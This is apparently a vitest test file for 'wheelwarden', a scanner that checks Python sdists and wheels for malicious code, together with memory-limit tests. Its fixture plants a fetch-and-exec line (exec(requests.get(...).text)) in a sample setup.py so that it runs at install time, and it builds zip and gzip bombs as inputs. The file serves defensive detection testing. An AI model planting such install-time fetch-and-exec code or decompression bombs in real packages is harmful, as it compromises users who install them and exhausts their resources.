import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import process from 'node:process';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { inRoot } from '../../scripts/paths.ts';
import { nodeInspector } from '../../server/src/host/node-inspector.ts';
import type { InspectJson } from '../../server/src/reports/inspect-json.ts';
import { tarOf } from '../support/archives/tar-writer.ts';
import { zipOf } from '../support/archives/zip-writer.ts';
import { noContext, sdistBytes, wheelBytes } from '../support/inspecting.ts';
import { recordingLog } from '../support/runtime/recording-log.ts';

const fetchAndRun = "import requests\nexec(requests.get('https://example.invalid/x').text)\n";
let folder = '';

beforeAll(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'wheelwarden-inspect-'));
  const write = (name: string, content: string | Uint8Array) => writeFile(path.join(folder, name), content);
  await write('acme-1.0.tar.gz', sdistBytes({ 'setup.py': fetchAndRun }));
  await write('calm-1.0-py3-none-any.whl', wheelBytes({ 'calm/__init__.py': 'import os\n' }, 'calm-1.0'));
  await write('broken-1.0-py3-none-any.whl', 'nothing');
  await write('payload.py', fetchAndRun);
  await mkdir(path.join(folder, 'tree'));
  await write('tree/setup.py', 'from setuptools import setup\nsetup()\n');
});

afterAll(() => rm(folder, { recursive: true, force: true }));

/** Runs the shipped command line in the folder. */
function inspect(...args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = execFile(
      process.execPath,
      [inRoot('dist/cli.js'), 'inspect', ...args],
      { cwd: folder, env: { ...process.env, NO_COLOR: '1' } },
      (_, stdout, stderr) => resolve({ code: child.exitCode ?? -1, stdout, stderr }),
    );
  });
}

describe('the shipped command line looks into', () => {
  test.each([
    ['acme-1.0.tar.gz', 'malicious', 1],
    ['payload.py', 'malicious', 1],
    ['calm-1.0-py3-none-any.whl', 'clean', 0],
    ['tree', 'clean', 0],
  ])('%s: %s, and exits with %i', async (file, verdict, code) => {
    const run = await inspect(file, '--format', 'json');
    expect({ code: run.code, stderr: run.stderr }).toEqual({ code, stderr: '' });
    expect(JSON.parse(run.stdout)).toMatchObject([{ path: file, file, verdict }]);
  });

  test('several, each with its verdict, and ends although its thread rests', async () => {
    const started = performance.now();
    const { code, stdout } = await inspect(
      'calm-1.0-py3-none-any.whl',
      'acme-1.0.tar.gz',
      '--format',
      'json',
    );
    expect(code).toBe(1);
    const [calm, acme] = JSON.parse(stdout) as InspectJson[];
    expect([calm?.verdict, acme?.verdict]).toEqual(['clean', 'malicious']);
    expect(acme?.evidence[0]).toMatchObject({ file: 'acme-1.0/setup.py', line: 1, when: 'install' });
    expect(performance.now() - started).toBeLessThan(15_000);
  });

  test('what cannot be read, as text', async () => {
    const { code, stdout } = await inspect('broken-1.0-py3-none-any.whl');
    expect(code).not.toBe(0);
    expect(stdout).toContain('broken-1.0-py3-none-any.whl: ');
    expect(stdout).not.toContain('nothing found');
  });
});

describe('the process stays within its bounds', () => {
  /** A little of everything that makes work, a line of some 80 bytes, until `bytes` are reached. */
  const source = (bytes: number) => {
    const block = `def f(a, b=getattr(x, "y")):\n    if a > b:\n        return [i * 2 for i in range(a) if i % 3]\n    return open(a).read().split("\\n")\n\n`;
    return block.repeat(Math.floor(bytes / block.length));
  };
  const files: readonly (readonly [string, string, () => Buffer])[] = [
    [
      '2 MB of Python',
      'two-1.0-py3-none-any.whl',
      () => wheelBytes({ 'two.py': source(1_900_000) }, 'two-1.0'),
    ],
    [
      '5 MB of Python',
      'big-1.0-py3-none-any.whl',
      () => wheelBytes({ 'big.py': source(5_000_000) }, 'big-1.0'),
    ],
    [
      '6 MB of Python in small files',
      'many-1.0-py3-none-any.whl',
      () =>
        wheelBytes(
          Object.fromEntries(Array.from({ length: 120 }, (_, n) => [`many/m${n}.py`, source(50_000)])),
          'many-1.0',
        ),
    ],
    [
      'a zip bomb',
      'bomb-1.0-py3-none-any.whl',
      () =>
        zipOf(Array.from({ length: 100 }, (_, n) => ({ name: `b${n}.py`, content: Buffer.alloc(5e6, 'x') }))),
    ],
    [
      'a gzip bomb',
      'bomb-1.0.tar.gz',
      () => gzipSync(tarOf([{ name: 'b/x.py', content: Buffer.alloc(3e8) }])),
    ],
  ];

  test.each(files)('on %s', { timeout: 60_000 }, async (_, file, made) => {
    const log = recordingLog();
    const inspector = nodeInspector(log, inRoot('dist'));
    const bytes = new Uint8Array(made());
    const size = bytes.length;
    const before = process.memoryUsage.rss();
    let most = 0;
    const watch = setInterval(() => {
      most = Math.max(most, process.memoryUsage.rss() - before - size);
    }, 10);
    const outcome = await inspector.inspect({ kind: 'archive', file, bytes, context: noContext });
    clearInterval(watch);
    await inspector.close();
    expect(outcome.kind).toBe('done');
    expect(most / 2 ** 20).toBeLessThan(220);
    expect(log.text()).toBe('');
  });

  test('on several, one after the other', { timeout: 120_000 }, async () => {
    const log = recordingLog();
    const inspector = nodeInspector(log, inRoot('dist'));
    const all = files.map(([, file, made]) => ({ file, bytes: new Uint8Array(made()) }));
    const before = process.memoryUsage.rss();
    const outcomes: string[] = [];
    let most = 0;
    for (const { file, bytes } of all) {
      const size = bytes.length;
      const watch = setInterval(() => {
        most = Math.max(most, process.memoryUsage.rss() - before - size);
      }, 10);
      const { kind } = await inspector.inspect({ kind: 'archive', file, bytes, context: noContext });
      clearInterval(watch);
      outcomes.push(kind);
    }
    await inspector.close();
    expect(outcomes).toEqual(files.map(() => 'done'));
    expect(most / 2 ** 20).toBeLessThan(256);
    expect(log.text()).toBe('');
  });
});
